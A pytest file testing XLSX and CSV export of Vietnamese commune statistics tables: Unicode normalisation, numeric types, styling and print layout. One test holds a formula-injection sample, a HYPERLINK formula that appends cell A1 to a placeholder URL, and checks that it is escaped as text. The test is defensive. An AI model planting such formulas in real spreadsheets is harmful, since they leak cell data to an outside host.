"""The Biểu thống kê as XLSX and CSV round-trips through openpyxl and csv: Vietnamese intact, numbers as numbers."""

from __future__ import annotations

import csv
import io
import unicodedata

import openpyxl

from antq_tui.office.tables import Table, csv_bytes, write_csv, write_xlsx

TABLES = [
    Table("Biểu thống kê năm 2024 — xã, phường, thị trấn: kết quả từng đơn vị",
          ["STT", "Đơn vị", "Số tiêu chí đạt", "Tỷ lệ đạt (%)", "Điều kiện"],
          [[1, "Xã Phiêng Ban", 34, 100.0, "Đủ điều kiện"],
           [2, unicodedata.normalize("NFD", "Thị trấn Bắc Yên"), 31, 91.2, None]],
          sheet="Đơn vị - xa", percent_columns=(3,)),
    Table("Kết quả từng tiêu chí", ["Tiêu chí", "Nội dung tiêu chí"],
          [[18, "Kiềm chế, làm giảm tội phạm; " * 12]], sheet="Tiêu chí - xa"),
]


def test_xlsx_round_trip(tmp_path):
    path = write_xlsx(tmp_path / "bieu.xlsx", TABLES)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Đơn vị - xa", "Tiêu chí - xa"]
    ws = wb["Đơn vị - xa"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == ("STT", "Đơn vị", "Số tiêu chí đạt", "Tỷ lệ đạt (%)", "Điều kiện")
    assert rows[1] == (1, "Xã Phiêng Ban", 34, 100, "Đủ điều kiện")
    assert rows[2] == (2, "Thị trấn Bắc Yên", 31, 91.2, None)  # NFD in, NFC out
    assert isinstance(rows[1][2], int) and isinstance(rows[2][3], float)
    assert ws["A1"].font.bold and ws.freeze_panes == "A2"
    assert ws.column_dimensions["B"].width >= len("Thị trấn Bắc Yên")
    long = wb["Tiêu chí - xa"]
    assert long.column_dimensions["B"].width == 60 and long["B2"].alignment.wrap_text


def test_csv_round_trip_with_a_bom(tmp_path):
    path = write_csv(tmp_path / "bieu.csv", TABLES)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == [TABLES[0].title]
    assert rows[1] == TABLES[0].header
    assert rows[2] == ["1", "Xã Phiêng Ban", "34", "100", "Đủ điều kiện"]
    assert rows[3] == ["2", "Thị trấn Bắc Yên", "31", "91.2", ""]
    assert float(rows[3][3]) == 91.2 and rows[4] == [] and rows[5] == ["Kết quả từng tiêu chí"]
    assert csv_bytes(TABLES, titles=False).decode("utf-8-sig").splitlines()[0] == ",".join(TABLES[0].header)


def test_text_that_looks_like_a_formula_stays_text(tmp_path):
    """A unit named "=HYPERLINK(…)" (imported from a bundle or a registry file) must not become a live
    formula in the office's spreadsheet; numbers, negative ones too, stay numbers."""
    evil = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")'
    table = Table("Biểu", ["STT", "Đơn vị", "Ghi chú", "Số"],
                  [[1, evil, "+84 912", -3], [2, "@SUM(A1:A2)", "-1+1", 2.5]])
    ws = openpyxl.load_workbook(write_xlsx(tmp_path / "b.xlsx", [table])).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert not any(c.data_type == "f" for c in cells)
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert rows == [(1, "'" + evil, "'+84 912", -3), (2, "'@SUM(A1:A2)", "'-1+1", 2.5)]
    text = csv_bytes([table], titles=False).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text)))
    assert read[1] == ["1", "'" + evil, "'+84 912", "-3"]
    assert read[2] == ["2", "'@SUM(A1:A2)", "'-1+1", "2.5"]


def test_xlsx_looks_as_the_office_prints_it(tmp_path):
    """Every cell framed, the header bold on grey and centred, numbers right-aligned (percentages with
    one decimal), a two-line cell wrapped, the filter over the table, printed landscape on A4 with the
    header on every page."""
    table = Table("Biểu", ["STT", "Đơn vị", "Tỷ lệ đạt (%)", "Kết quả"],
                  [[1, "Xã Phiêng Ban", 91.2, "Đạt\ngiảm 7,1 %"], [2, "Xã Mường Khoa", None, "—"]],
                  percent_columns=(2,))
    ws = openpyxl.load_workbook(write_xlsx(tmp_path / "b.xlsx", [table])).active
    assert all(c.border.left.style == c.border.top.style == "thin" for row in ws.iter_rows() for c in row)
    assert all(c.font.bold and c.fill.fgColor.rgb == "00DDDDDD" and c.alignment.horizontal == "center"
               for c in ws[1])
    assert not any(c.font.bold for row in ws.iter_rows(min_row=2) for c in row)
    assert ws["A2"].alignment.horizontal == "right" and ws["A2"].number_format == "General"
    assert ws["C2"].number_format == "0.0" and ws["C2"].value == 91.2
    assert ws["C3"].value is None and ws["C3"].border.left.style == "thin"  # an empty cell is framed too
    assert ws["D2"].alignment.wrap_text and not ws["B2"].alignment.wrap_text
    assert ws.column_dimensions["B"].width == len("Xã Mường Khoa") + 2
    assert ws.column_dimensions["A"].width == 6  # never narrower
    assert ws.auto_filter.ref == "A1:D3" and ws.print_title_rows == "$1:$1"
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.paperSize == 9


def test_xlsx_of_no_table_says_why_it_is_empty(tmp_path):
    wb = openpyxl.load_workbook(write_xlsx(tmp_path / "b.xlsx", []))
    assert [list(ws.iter_rows(values_only=True)) for ws in wb] == [[("Không có cuộc kiểm tra nào phù hợp.",)]]
